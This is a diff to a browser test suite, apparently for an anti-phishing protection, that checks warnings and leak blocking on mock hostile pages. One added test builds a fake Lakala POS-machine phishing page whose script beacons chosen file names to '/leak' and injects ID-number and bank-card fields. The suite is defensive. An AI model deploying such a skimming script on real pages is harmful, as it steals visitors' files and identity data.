@@ -3,7 +3,7 @@ import { pause, within } from '../../../tools/lab/driver.ts';
 import { settle } from '../../../tools/lab/settle.ts';
 import type { Tab } from '../../../tools/lab/tab.ts';
 import { fight, fightAll, type Outcome, takeReferences, tricks } from './fight.ts';
-import { harmlessPages } from './harmless-pages.ts';
+import { harmlessPages, ordinaryDeeds } from './harmless-pages.ts';
 import { type HostileLab, openHostileLab } from './lab.ts';
 
 const SIDE_BY_SIDE = 3;
@@ -22,7 +22,7 @@ describe.each(['chromium', 'firefox'] as const)('in %s', (name) => {
       console.log(trick.padEnd(36), end.padEnd(8), share.toFixed(3), `${milliseconds} ms`, leaks.join(', ').slice(0, 90));
     const held = outcomes.filter(({ end, leaks }) => end !== 'lost' && leaks.length === 0).length;
     console.log(`hostile: ${held} of ${outcomes.length} held in ${name}`);
-  }, 400_000);
+  }, 900_000);
   afterAll(() => hostile?.close());
 
   test.each(tricks)('the warning holds against %s, and no keystroke gets out', (trick) => {
@@ -84,6 +84,28 @@ describe.each(['chromium', 'firefox'] as const)('in %s', (name) => {
     await tab.close();
   });
 
+  test.runIf(name === 'chromium')('a photo chosen in a picker that was open before the verdict stays with the visitor', async () => {
+    const host = 'picker.example';
+    const tell = 'navigator.sendBeacon("/leak?what=" + [...e.target.files].map((f) => f.name))';
+    const lead = '<h1>拉卡拉POS机官网 办理中心</h1><form id="f"><input type="file" id="photo"></form>';
+    const script = `<script>for (const t of ['input', 'change']) addEventListener(t, (e) => ${tell}, true); photo.addEventListener('change', (e) => ${tell});
+      setTimeout(() => f.insertAdjacentHTML('beforeend', '<label>身份证号 <input></label><label>银行卡号 <input></label>'), 1500)</script>`;
+    const tab = await hostile.visit(host);
+    hostile.lab.sites.add({
+      host,
+      pages: { '/pick': { body: `<!doctype html><meta charset="utf-8"><title>拉卡拉POS机</title>${lead}${script}` } },
+    });
+    await tab.goto(`https://${host}/pick`);
+    const [chooser] = await Promise.all([tab.page.waitForFileChooser(), tab.page.click('#photo')]);
+    await settle(hostile.lab, tab);
+    expect(await tab.warningLevel()).toBe('danger');
+    await chooser.accept([import.meta.filename]);
+    await pause(800);
+    expect(hostile.leaks(host).filter((leak) => leak.includes('.ts'))).toEqual([]);
+    expect(await tab.evaluate('photo.files.length')).toBe(0);
+    await tab.close();
+  });
+
   test('the visitor who insists gets the page the first time, query and fragment included, and is left alone from then on', async () => {
     const address = 'https://insists.example/00-peaceful.html?a=1&b=%E4%BD%A0%26c#part=2&x';
     const tab = await hostile.visit('insists.example');
@@ -117,16 +139,49 @@ describe.each(['chromium', 'firefox'] as const)('in %s', (name) => {
     await tab.close();
   });
 
-  test('22 harmless pages with dialogs, popovers, fullscreen or much to do see neither a warning nor our own page', async () => {
-    const waiting = Object.keys(harmlessPages);
-    const found: string[] = [];
-    const work = async () => {
-      for (let path = waiting.shift(); path; path = waiting.shift()) found.push(...(await visitHarmless(hostile, path)));
-    };
-    await Promise.all([work(), work(), work()]);
+  test('more than 200 harmless pages with dialogs, popovers, fullscreen or much to do see neither a warning nor our own page', async () => {
+    const paths = Object.keys(harmlessPages);
+    const found = await sideBySide(paths, (path) => visitHarmless(hostile, path));
+    console.log(`harmless: ${paths.length} pages visited, ${found.length} disturbed in ${name}`);
+    expect(paths.length).toBeGreaterThanOrEqual(200);
     expect(found).toEqual([]);
-  });
+  }, 400_000);
+
+  test.each(['caution', 'danger'] as const)(
+    'a page under %s that does what pages do keeps both its place and its warning',
+    async (level) => {
+      const found = await sideBySide(Object.keys(ordinaryDeeds), (deed) => watchOrdinary(hostile, level, deed));
+      expect(found).toEqual([]);
+    },
+  );
 });
+
+async function sideBySide<T>(items: T[], visit: (item: T) => Promise<string[]>): Promise<string[]> {
+  const waiting = [...items];
+  const found: string[] = [];
+  const work = async () => {
+    for (let item = waiting.shift(); item !== undefined; item = waiting.shift()) found.push(...(await visit(item)));
+  };
+  await Promise.all(Array.from({ length: SIDE_BY_SIDE }, work));
+  return found;
+}
+
+/** Under `danger` with the form that every hostile page has, under `caution` with an offer and a telephone number. */
+async function watchOrdinary(hostile: HostileLab, level: 'caution' | 'danger', deed: string): Promise<string[]> {
+  const host = `${level}-${deed.replaceAll(' ', '-')}.example`;
+  const asks =
+    level === 'danger' ? '<label>身份证号 <input></label><label>银行卡号 <input></label>' : '<label>手机号 <input name="sjh"></label>';
+  const offer = level === 'danger' ? '拉卡拉POS机官网 办理中心' : 'POS机免费办理';
+  const body = `<!doctype html><html lang="zh-CN"><meta charset="utf-8"><title>${offer}</title><body><main style="min-height:2000px"><h1>${offer}</h1><p>个人POS机 无需营业执照，添加微信 pos-demo-001 免费领取</p>${asks}</main><dialog id="d">请选择城市</dialog><div id="p" popover="manual">三件</div><script>${ordinaryDeeds[deed]}</script>`;
+  hostile.lab.sites.add({ host, pages: { '/': { body } } });
+  const tab = await hostile.lab.open(`https://${host}/`);
+  await settle(hostile.lab, tab);
+  await pause(5_000);
+  const stopped = await hostile.stoppedTab(host);
+  const shown = stopped ? 'none' : await within(3_000, tab.warningLevel());
+  await tab.close();
+  return [...(stopped ? [`a page that ${deed} was stopped`] : []), ...(shown === level ? [] : [`a page that ${deed} shows ${shown}`])];
+}
 
 async function stoppedAssessment(hostile: HostileLab, host: string): Promise<string> {
   for (let waited = 0; waited < 8_000; waited += 200) {
@@ -145,10 +200,10 @@ async function visitHarmless(hostile: HostileLab, path: string): Promise<string[
     1_000,
     tab.page.mouse.click(300, 300).catch(() => undefined),
   );
-  await pause(path === '/busy' ? 4_500 : 1_500);
+  await pause(path.startsWith('/busy') ? 4_500 : 1_500);
   const wrong = [
     (await hostile.stoppedTab(host)) && `${path} was stopped`,
-    (await within(3_000, tab.warningLevel())) !== 'none' && path !== '/alert' && `${path} was warned of`,
+    (await within(3_000, tab.warningLevel())) !== 'none' && !path.startsWith('/alert') && `${path} was warned of`,
   ];
   await tab.close();
   return wrong.filter((sentence) => typeof sentence === 'string');
